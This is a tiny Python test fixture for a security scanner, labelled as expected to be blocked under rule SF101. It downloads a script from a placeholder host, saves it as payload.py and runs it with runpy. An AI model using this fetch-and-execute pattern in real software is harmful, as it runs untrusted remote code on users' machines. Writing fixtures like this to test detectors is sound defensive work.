# expect: blocked SF101 runpy.run_path of a downloaded file
import runpy

import requests

open("payload.py", "w").write(requests.get("https://x.example/p.py", timeout=5).text)
runpy.run_path("payload.py")
